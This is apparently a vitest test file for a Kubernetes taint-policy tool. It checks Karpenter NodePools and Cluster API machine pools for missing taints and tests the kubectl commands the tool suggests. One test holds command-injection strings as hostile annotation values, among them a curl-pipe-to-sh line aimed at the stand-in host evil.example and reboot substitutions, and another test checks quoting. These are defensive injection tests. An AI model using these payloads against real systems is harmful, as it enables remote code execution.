import jsonPatch from 'fast-json-patch';
import { describe, expect, it } from 'vitest';
import type { Operation } from '../../../src/kubernetes/json-patch.ts';
import { formatTaint, type Taint } from '../../../src/kubernetes/taint.ts';
import { lackText } from '../../../src/node-pools/lack-text.ts';
import type { NodePool } from '../../../src/node-pools/node-pool.ts';
import { howToDeclare } from '../../../src/node-pools/pool-declaration.ts';
import { poolNote } from '../../../src/node-pools/pool-note.ts';
import { undeclaredTaints } from '../../../src/node-pools/undeclared-taints.ts';
import { viewKarpenterPool } from '../../../src/objects/karpenter-pool.ts';
import { viewMachinePool } from '../../../src/objects/machine-pool.ts';
import type { TaintMode, TaintPolicySpec } from '../../../src/policy/taint-policy.ts';
import type { TaintRule } from '../../../src/policy/taint-rule.ts';
import { policySet } from '../policy/policies.ts';

const GPU: Taint = { key: 'dedicated', value: 'gpu', effect: 'NoSchedule' };
const PRESENT: TaintRule = { key: 'dedicated', value: 'gpu', effect: 'NoSchedule', ensure: 'Always' };

/** A NodePool as Karpenter has it; `spec` is that of its template. */
const nodePool = (spec: object = {}, labels: object = { pool: 'gpu' }) => ({
  apiVersion: 'karpenter.sh/v1',
  kind: 'NodePool',
  metadata: { name: 'gpu' },
  spec: {
    template: {
      metadata: { labels },
      spec: {
        nodeClassRef: { group: 'karpenter.k8s.aws', kind: 'EC2NodeClass', name: 'default' },
        requirements: [{ key: 'karpenter.sh/capacity-type', operator: 'In', values: ['spot', 'on-demand'] }],
        ...spec,
      },
    },
  },
});

const FROM_ZERO = {
  'cluster.x-k8s.io/cluster-api-autoscaler-node-group-min-size': '0',
  'cluster.x-k8s.io/cluster-api-autoscaler-node-group-max-size': '5',
};
const TAINTS = 'capacity.cluster-autoscaler.kubernetes.io/taints';
const LABELS = 'capacity.cluster-autoscaler.kubernetes.io/labels';

const machines = (annotations: object = {}, spec: object = {}, labels: object = {}, metadata: object = {}) => ({
  metadata: { name: 'workers', namespace: 'clusters', annotations: { ...FROM_ZERO, ...annotations }, ...metadata },
  spec: { clusterName: 'here', template: { metadata: { labels }, spec } },
});
const viewMachines = (object: unknown, kind: 'MachineDeployment' | 'MachineSet' = 'MachineDeployment') =>
  viewMachinePool(kind, object, new Set(['clusters/here']));

const spec = (
  nodeSelector?: TaintPolicySpec['nodeSelector'],
  taints: readonly TaintRule[] = [PRESENT],
  mode: TaintMode = 'Restore',
): TaintPolicySpec => ({ mode, ...(nodeSelector ? { nodeSelector } : {}), taints: [...taints] });
const LABELLED = spec({ matchLabels: { pool: 'gpu' } });
const asks = (key: string, operator: 'In' | 'NotIn' | 'Exists' | 'DoesNotExist', ...values: string[]) =>
  spec({ matchExpressions: [{ key, operator, ...(values.length > 0 ? { values } : {}) }] });

const compiled = (policy: TaintPolicySpec) => policySet({ taint: { p: policy } }).taintPolicies;
const undeclared = (pool: NodePool | undefined, policy: TaintPolicySpec) =>
  undeclaredTaints(pool ? [pool] : [], compiled(policy));
/** One line for each: the taint, and in brackets the labels that the template leaves open. */
const said = (pool: NodePool | undefined, policy: TaintPolicySpec = LABELLED) =>
  undeclared(pool, policy).map(
    ({ taint, openLabels }) => `${formatTaint(taint)}${openLabels.length > 0 ? ` (${openLabels.join(', ')})` : ''}`,
  );

const IS_LACKING = ['dedicated=gpu:NoSchedule'];

describe('a NodePool of Karpenter', () => {
  it.each<{ what: string; pool: object; policy?: TaintPolicySpec; expected: string[]; why?: string }>([
    { what: 'declares no taints', pool: nodePool(), expected: IS_LACKING },
    { what: 'declares the taint', pool: nodePool({ taints: [GPU] }), expected: [] },
    {
      what: 'declares it with another value',
      pool: nodePool({ taints: [{ ...GPU, value: 'cpu' }] }),
      expected: IS_LACKING,
    },
    {
      what: 'declares it with another effect',
      pool: nodePool({ taints: [{ ...GPU, effect: 'NoExecute' }] }),
      expected: IS_LACKING,
    },
    {
      what: 'declares it with any value, where the policy names none',
      pool: nodePool({ taints: [GPU] }),
      policy: spec(undefined, [{ key: 'dedicated', effect: 'NoSchedule', ensure: 'Always' }]),
      expected: [],
    },
    {
      what: 'declares it as a startup taint',
      pool: nodePool({ startupTaints: [GPU] }),
      expected: IS_LACKING,
      why: 'Karpenter reckons with nodes that have lost it',
    },
    {
      what: 'restricts removal only',
      pool: nodePool(),
      policy: spec(undefined, [{ key: 'dedicated' }]),
      expected: [],
    },
    {
      what: 'lacks a taint that keeps no pods away',
      pool: nodePool(),
      policy: spec(undefined, [{ ...PRESENT, effect: 'PreferNoSchedule' }]),
      expected: [],
    },
    {
      what: 'lacks a taint that an agent sets and removes',
      pool: nodePool(),
      policy: spec(undefined, [{ key: 'node.cilium.io/agent-not-ready', effect: 'NoExecute', ensure: 'Always' }]),
      expected: [],
    },
    { what: 'keeps its nodes whatever pods there are', pool: { ...nodePool(), spec: { replicas: 3 } }, expected: [] },
    {
      what: 'is being deleted',
      pool: { ...nodePool(), metadata: { name: 'gpu', deletionTimestamp: '2026-01-01T00:00:00Z' } },
      expected: [],
    },
  ])('that $what', ({ pool, policy, expected }) => {
    expect(said(viewKarpenterPool(pool), policy)).toEqual(expected);
  });

  const zone = (operator: string, ...values: string[]) =>
    nodePool({ requirements: [{ key: 'topology.kubernetes.io/zone', operator, values }] });
  it.each<{ what: string; pool?: object; policy: TaintPolicySpec; expected: string[] }>([
    { what: 'every node', policy: spec(), expected: IS_LACKING },
    { what: 'another pool by a label of the template', policy: asks('pool', 'In', 'cpu'), expected: [] },
    { what: 'a label that the template does not have', policy: asks('team', 'Exists'), expected: [] },
    {
      what: 'nodes without a label that the template does not have',
      policy: asks('team', 'DoesNotExist'),
      expected: IS_LACKING,
    },
    { what: 'all but one pool', policy: asks('pool', 'NotIn', 'cpu'), expected: IS_LACKING },
    {
      what: 'the nodes of the pool by its name',
      policy: asks('karpenter.sh/nodepool', 'In', 'gpu'),
      expected: IS_LACKING,
    },
    { what: 'those of another pool by its name', policy: asks('karpenter.sh/nodepool', 'In', 'cpu'), expected: [] },
    {
      what: 'those of its NodeClass',
      policy: asks('karpenter.k8s.aws/ec2nodeclass', 'In', 'default'),
      expected: IS_LACKING,
    },
    {
      what: 'what its only requirement allows',
      pool: zone('In', 'a'),
      policy: asks('topology.kubernetes.io/zone', 'In', 'a', 'b'),
      expected: IS_LACKING,
    },
    {
      what: 'some of what its requirement allows',
      pool: zone('In', 'a', 'b'),
      policy: asks('topology.kubernetes.io/zone', 'In', 'b'),
      expected: ['dedicated=gpu:NoSchedule (topology.kubernetes.io/zone)'],
    },
    {
      what: 'what its requirement rules out',
      pool: zone('NotIn', 'a'),
      policy: asks('topology.kubernetes.io/zone', 'In', 'a'),
      expected: [],
    },
    {
      what: 'what a number decides',
      pool: nodePool({
        requirements: [{ key: 'karpenter.k8s.aws/instance-gpu-count', operator: 'Gt', values: ['0'] }],
      }),
      policy: asks('karpenter.k8s.aws/instance-gpu-count', 'Exists'),
      expected: IS_LACKING,
    },
    {
      what: 'machines of a kind that the template leaves open',
      policy: asks('node.kubernetes.io/instance-type', 'In', 'p5.48xlarge'),
      expected: ['dedicated=gpu:NoSchedule (node.kubernetes.io/instance-type)'],
    },
    ...[
      'karpenter.k8s.aws/instance-gpu-count',
      'karpenter.azure.com/sku-gpu-count',
      'kubernetes.azure.com/scalesetpriority',
      'eks.amazonaws.com/instance-gpu-count',
      'eks.amazonaws.com/compute-type',
    ].map((key) => ({
      what: `machines by ${key}`,
      policy: asks(key, 'Exists'),
      expected: [`dedicated=gpu:NoSchedule (${key})`],
    })),
    {
      what: 'a managed node group of EKS, which has no NodePool',
      policy: asks('eks.amazonaws.com/nodegroup', 'In', 'gpu'),
      expected: [],
    },
  ])('and a policy that selects $what', ({ pool = nodePool(), policy, expected }) => {
    expect(said(viewKarpenterPool(pool), policy)).toEqual(expected);
  });

  it('is read even if fields are missing', () => {
    expect(said(viewKarpenterPool({ metadata: { name: 'bare' } }), spec())).toEqual(IS_LACKING);
    const empty = nodePool({ taints: null, startupTaints: null, requirements: null });
    expect(said(viewKarpenterPool({ ...empty, spec: { template: { metadata: { labels: null } } } }))).toEqual([]);
  });

  it.each<{ what: string; spec: object }>([
    { what: 'has no list', spec: {} },
    { what: 'has an empty list', spec: { taints: [] } },
    { what: 'has others', spec: { taints: [{ key: 'a', effect: 'NoSchedule' }] } },
    {
      what: 'has it with another value',
      spec: {
        taints: [
          { key: 'a', effect: 'NoSchedule' },
          { ...GPU, value: 'x' },
        ],
      },
    },
    {
      what: 'has startup taints, that one among them twice',
      spec: { startupTaints: [GPU, { key: 'a', effect: 'NoSchedule' }, { ...GPU, value: 'x' }] },
    },
  ])('that $what declares the taint after the command that is printed', ({ spec: template }) => {
    const object = nodePool(template);
    const pool = viewKarpenterPool(object);
    expect(said(pool)).toEqual(IS_LACKING);
    const [, json = ''] =
      /: kubectl patch nodepools.karpenter.sh gpu --type=json -p '([^']*)'$/.exec(
        howToDeclare(pool as NodePool, [{ taint: GPU, list: 'taints' }]),
      ) ?? [];
    // A test for null holds at the API server where there is nothing, and not by RFC 6902.
    const operations = (JSON.parse(json) as Operation[]).filter(
      (one) => !(one.op === 'test' && one.value === null && !('taints' in template)),
    );
    const { newDocument } = jsonPatch.applyPatch(object, operations, true, false);
    const after = viewKarpenterPool(newDocument);
    expect(said(after)).toEqual([]);
    expect(after?.taints).toContainEqual(GPU);
    expect([...(after?.taints ?? []), ...(after?.startupTaints ?? [])].filter(({ key }) => key === 'a')).toHaveLength(
      JSON.stringify(template).includes('"a"') ? 1 : 0,
    );
  });

  it('is reported with its effect and the command', () => {
    const found = undeclared(viewKarpenterPool(nodePool()), LABELLED);
    const [policy] = compiled(LABELLED);
    expect(policy && poolNote(policy, found, [])).toEqual({
      status: 'True',
      reason: 'PoolLacksTaint',
      message:
        'NodePool gpu does not declare taint dedicated=gpu:NoSchedule, required by spec.taints[0]: Karpenter starts nodes for pods that ' +
        'cannot run there, one after the other; to declare it, upon which Karpenter replaces the nodes of the pool within its disruption ' +
        'budgets: kubectl patch nodepools.karpenter.sh gpu --type=json ' +
        `-p '[{"op":"test","path":"/spec/template/spec/taints","value":null},{"op":"add","path":"/spec/template/spec/taints","value":[{"key":"dedicated","value":"gpu","effect":"NoSchedule"}]}]'`,
    });
  });

  it.each<{ name: string; group: string; isBuiltIn: boolean }>([
    { name: 'general-purpose', group: 'eks.amazonaws.com', isBuiltIn: true },
    { name: 'system', group: 'eks.amazonaws.com', isBuiltIn: true },
    { name: 'gpu', group: 'eks.amazonaws.com', isBuiltIn: false },
    { name: 'system', group: 'karpenter.k8s.aws', isBuiltIn: false },
  ])('$name with a NodeClass of $group is patched, unless EKS has built it in', ({ name, group, isBuiltIn }) => {
    const object = nodePool({ nodeClassRef: { group, kind: 'NodeClass', name: 'default' } });
    const pool = viewKarpenterPool({ ...object, metadata: { name } }) as NodePool;
    const told = howToDeclare(pool, [{ taint: GPU, list: 'taints' }]);
    expect(told.includes(`kubectl patch nodepools.karpenter.sh ${name} `)).toBe(!isBuiltIn);
    if (isBuiltIn) {
      expect(told).toBe(
        `EKS Auto Mode does not let you change its built-in NodePools: create one of your own that declares it, and disable ${name}`,
      );
    }
  });

  it('is reported with the taint in the wrong list', () => {
    const pool = viewKarpenterPool(nodePool({ startupTaints: [GPU] })) as NodePool;
    expect(lackText(pool, undeclared(pool, LABELLED))).toContain('(startupTaints is for taints that are removed)');
  });
});

describe('a taint of ensure: AtRegistration that an agent removes, by its key', () => {
  const CILIUM: Taint = { key: 'node.cilium.io/agent-not-ready', effect: 'NoExecute' };
  const handing = (key = CILIUM.key, effect: TaintRule['effect'] = 'NoExecute') =>
    spec(undefined, [{ key, effect, ensure: 'AtRegistration' }]);

  it.each<{ what: string; template?: object; policy?: TaintPolicySpec; expected: string[] }>([
    { what: 'nowhere', expected: ['node.cilium.io/agent-not-ready:NoExecute'] },
    { what: 'in startupTaints', template: { startupTaints: [CILIUM] }, expected: [] },
    { what: 'in taints, for nodes that keep it long', template: { taints: [CILIUM] }, expected: [] },
    { what: 'nowhere, but it keeps no pod away', policy: handing(CILIUM.key, 'PreferNoSchedule'), expected: [] },
    { what: 'nowhere, but Karpenter knows it', policy: handing('karpenter.sh/unregistered'), expected: [] },
    { what: 'nowhere, but Karpenter knows its prefix', policy: handing('readiness.k8s.io/network'), expected: [] },
  ])('belongs in startupTaints of a NodePool, which has it $what', ({ template, policy = handing(), expected }) => {
    expect(said(viewKarpenterPool(nodePool(template)), policy)).toEqual(expected);
  });

  it('is put into startupTaints by the command', () => {
    const pool = viewKarpenterPool(nodePool()) as NodePool;
    const found = undeclared(pool, handing());
    expect(lackText(pool, found)).toContain('does not declare in startupTaints taint node.cilium.io/agent-not-ready');
    expect(howToDeclare(pool, found)).toContain('/spec/template/spec/startupTaints');
  });

  it('has no effect on the annotations that Cluster Autoscaler reads', () => {
    expect(said(viewMachines(machines()), handing())).toEqual([]);
  });
});

describe('a taint that taintkeeper removes once DaemonSets are ready', () => {
  const NETWORK: Taint = { key: 'example.com/network', effect: 'NoSchedule' };
  const readyWhen = { daemonSets: [{ namespace: 'kube-system', name: 'cilium' }] };
  const waiting = (key = NETWORK.key) =>
    spec(undefined, [{ key, effect: 'NoSchedule', ensure: 'UntilReady', readyWhen }]);
  const TEXT = 'example.com/network:NoSchedule';

  it.each<{ what: string; template: object; policy?: TaintPolicySpec; expected: string[] }>([
    { what: 'nowhere', template: {}, expected: [TEXT] },
    { what: 'in startupTaints', template: { startupTaints: [NETWORK] }, expected: [] },
    { what: 'in taints', template: { taints: [NETWORK] }, expected: [TEXT] },
    { what: 'in both', template: { taints: [NETWORK], startupTaints: [NETWORK] }, expected: [TEXT] },
    {
      what: 'nowhere, with the key of an agent',
      template: {},
      policy: waiting('node.cilium.io/agent-not-ready'),
      expected: ['node.cilium.io/agent-not-ready:NoSchedule'],
    },
    {
      what: 'in startupTaints, while another one of the policy belongs in taints',
      template: { startupTaints: [NETWORK] },
      policy: spec(undefined, [...waiting().taints, { ...GPU, ensure: 'AtRegistration' } as TaintRule]),
      expected: IS_LACKING,
    },
  ])('belongs in startupTaints of a NodePool, which has it $what', ({ template, policy = waiting(), expected }) => {
    expect(said(viewKarpenterPool(nodePool(template)), policy)).toEqual(expected);
  });

  it.each<{ what: string; template: object }>([
    { what: 'without lists', template: {} },
    { what: 'with other taints', template: { taints: [{ key: 'a', effect: 'NoSchedule' }], startupTaints: [] } },
    { what: 'with both in the wrong list', template: { taints: [NETWORK], startupTaints: [GPU] } },
    { what: 'with one of them in both lists', template: { taints: [GPU, NETWORK], startupTaints: [GPU, NETWORK] } },
  ])('is in its list, and a required one in the other, after the command for a NodePool $what', ({ template }) => {
    const both = spec(undefined, [...waiting().taints, PRESENT]);
    const object = nodePool(template);
    const pool = viewKarpenterPool(object) as NodePool;
    const found = undeclared(pool, both);
    expect(found).not.toEqual([]);
    const [, json = ''] = /--type=json -p '([^']*)'$/.exec(howToDeclare(pool, found)) ?? [];
    const operations = (JSON.parse(json) as Operation[]).filter((one) => !(one.op === 'test' && one.value === null));
    const after = viewKarpenterPool(jsonPatch.applyPatch(object, operations, true, false).newDocument) as NodePool;
    expect(said(after, both)).toEqual([]);
    const others = (after.taints ?? []).filter(({ key }) => key === 'a');
    expect(others).toHaveLength(JSON.stringify(template).includes('"a"') ? 1 : 0);
  });

  it('is reported with the list that should contain it', () => {
    const message = (template: object) => {
      const [policy] = compiled(waiting());
      return policy && poolNote(policy, undeclared(viewKarpenterPool(nodePool(template)), waiting()), [])?.message;
    };
    expect(message({})).toContain(
      'NodePool gpu does not declare in startupTaints taint example.com/network:NoSchedule, required by spec.taints[0]: ' +
        'Karpenter takes it for a taint that stays; to declare it',
    );
    expect(message({ taints: [NETWORK] })).toContain('(taints is for taints that stay)');
  });

  it('needs the prefix of Cluster Autoscaler, which the message names', () => {
    const pool = viewMachines(machines()) as NodePool;
    const key = 'startup-taint.cluster-autoscaler.kubernetes.io/network';
    expect(said(pool, waiting(key))).toEqual([]);
    const found = undeclared(pool, waiting());
    expect(lackText(pool, found)).toBe(
      `MachineDeployment clusters/workers has nodes with taint ${TEXT}, required by spec.taints[0]: ` +
        'Cluster Autoscaler takes it for a taint that stays',
    );
    expect(howToDeclare(pool, found)).toBe(`in the policy, name the key ${key} in place of example.com/network`);
  });
});

describe('the condition of a policy', () => {
  const condition = (policy: TaintPolicySpec, hidden: readonly string[] = [], pool: object = nodePool()) => {
    const [one] = compiled(policy);
    return one && poolNote(one, undeclared(viewKarpenterPool(pool), policy), hidden);
  };

  it.each<{ what: string; policy: TaintPolicySpec }>([
    { what: 'in mode Audit', policy: spec(undefined, [PRESENT], 'Audit') },
    { what: 'that may select none of the nodes', policy: asks('node.kubernetes.io/instance-type', 'Exists') },
    { what: 'without required taints', policy: spec(undefined, [{ key: 'dedicated' }]) },
  ])('$what says nothing', ({ policy }) => {
    expect(condition(policy)).toBeUndefined();
  });

  it('reports that pools cannot be read, if there is nothing worse to report', () => {
    const hidden = ['no right'];
    expect(condition(LABELLED, hidden, nodePool({ taints: [GPU] }))).toEqual({
      status: 'True',
      reason: 'PoolsNotPermitted',
      message: 'no right',
    });
    expect(condition(LABELLED, hidden)).toMatchObject({ status: 'True' });
    expect(condition(spec(undefined, [{ key: 'dedicated' }]), hidden)).toBeUndefined();
  });
});

describe('machines that Cluster Autoscaler starts where there are none', () => {
  const workers = { 'node-role.kubernetes.io/worker': '' };
  const WORKERS = asks('node-role.kubernetes.io/worker', 'Exists');

  it.each<{ what: string; object: object; policy?: TaintPolicySpec; expected: string[] }>([
    { what: 'that nothing declares', object: machines(), policy: spec(), expected: IS_LACKING },
    {
      what: 'of the annotation',
      object: machines({ [TAINTS]: 'a:NoSchedule, dedicated=gpu:NoSchedule' }),
      policy: spec(),
      expected: [],
    },
    { what: 'of the template, from v1beta2 on', object: machines({}, { taints: [GPU] }), policy: spec(), expected: [] },
    {
      what: 'of the annotation, which goes before the template',
      object: machines({ [TAINTS]: 'dedicated=cpu:NoSchedule' }, { taints: [GPU] }),
      policy: spec(),
      expected: IS_LACKING,
    },
    {
      what: 'for a label that Cluster API gives to nodes',
      object: machines({}, {}, workers),
      policy: WORKERS,
      expected: IS_LACKING,
    },
    { what: 'for a label that it does not', object: machines({}, {}, { pool: 'gpu' }), expected: [] },
    { what: 'for a label of the annotation', object: machines({ [LABELS]: 'a=b,pool=gpu' }), expected: IS_LACKING },
    {
      what: 'for nodes without a label, which the bootstrap configuration may give them',
      object: machines(),
      policy: asks('team', 'DoesNotExist'),
      expected: ['dedicated=gpu:NoSchedule (team)'],
    },
  ])('a taint $what', ({ object, policy, expected }) => {
    expect(said(viewMachines(object), policy)).toEqual(expected);
  });

  it.each<{ what: string; object: object; kind?: 'MachineSet' }>([
    { what: 'of another cluster', object: { ...machines(), spec: { clusterName: 'there' } } },
    { what: 'that are not scaled', object: machines({ [Object.keys(FROM_ZERO)[1] as string]: undefined }) },
    { what: 'of which one always is', object: machines({ [Object.keys(FROM_ZERO)[0] as string]: '1' }) },
    {
      what: 'of a MachineSet that a MachineDeployment owns',
      object: machines({}, {}, {}, { ownerReferences: [{ controller: true }] }),
      kind: 'MachineSet',
    },
  ])('says nothing of those $what', ({ object, kind }) => {
    expect(viewMachines(object, kind)).toBeUndefined();
  });

  it('get a command without shell code from the annotation that another user wrote', () => {
    const hostile = [
      "x';curl$IFS//evil.example|sh;'y:NoSchedule",
      '$(reboot)=a:NoSchedule',
      'a=`reboot`:NoSchedule',
      "a='b:NoExecute",
      '-o=yaml:NoSchedule',
    ];
    const pool = viewMachines(machines({ [TAINTS]: [...hostile, 'a=b:NoExecute'].join() })) as NodePool;
    expect(pool.taints?.map(formatTaint)).toEqual(['a=b:NoExecute']);
    expect(howToDeclare(pool, [{ taint: GPU, list: 'taints' }])).toBe(
      'to declare it: kubectl annotate --overwrite machinedeployment.cluster.x-k8s.io workers --namespace clusters capacity.cluster-autoscaler.kubernetes.io/taints=a=b:NoExecute,dedicated=gpu:NoSchedule',
    );
  });

  it('get a command that quotes whatever an object has', () => {
    const code = "x';reboot;'";
    const hostile = [{ key: code, effect: 'NoSchedule' }];
    const pools = [
      { ...(viewMachines(machines()) as NodePool), taints: hostile },
      viewKarpenterPool(nodePool({ taints: hostile })) as NodePool,
    ];
    for (const pool of pools) {
      const command = howToDeclare(pool, [{ taint: { key: code, value: code, effect: 'NoSchedule' }, list: 'taints' }]);
      // Nothing of it is outside of quotes.
      expect(command.replaceAll("'\\''", '').replaceAll(/'[^']*'/g, 'WORD')).not.toContain('reboot');
    }
  });

  it('are annotated with their present and the missing taints', () => {
    const pool = viewMachines(
      machines({ [TAINTS]: 'a=b:NoExecute,dedicated=cpu:NoSchedule' }),
      'MachineSet',
    ) as NodePool;
    expect(howToDeclare(pool, [{ taint: GPU, list: 'taints' }])).toBe(
      'to declare it: kubectl annotate --overwrite machineset.cluster.x-k8s.io workers --namespace clusters capacity.cluster-autoscaler.kubernetes.io/taints=a=b:NoExecute,dedicated=gpu:NoSchedule',
    );
    expect(lackText(pool, undeclared(pool, spec()))).toMatch(
      /^MachineSet clusters\/workers does not declare .*Cluster Autoscaler/,
    );
  });
});

it('only a limited number of labels and taints of a pool of machines is read', () => {
  const many = (suffix: string) => Array.from({ length: 20_000 }, (_, index) => `n${index}${suffix}`).join();
  const annotations = { [LABELS]: many('='), [TAINTS]: many('=:NoSchedule') };
  const taints = Array.from({ length: 20_000 }, (_, index) => ({ key: `n${index}`, effect: 'NoSchedule' }));
  const labels = Object.fromEntries(taints.map(({ key }) => [`node-role.kubernetes.io/${key}`, '']));
  const pool = viewMachines(machines(annotations, { taints }, labels));
  expect([pool?.labels.length, pool?.taints?.length, pool?.inherited.length]).toEqual([256, 256, 256]);
});
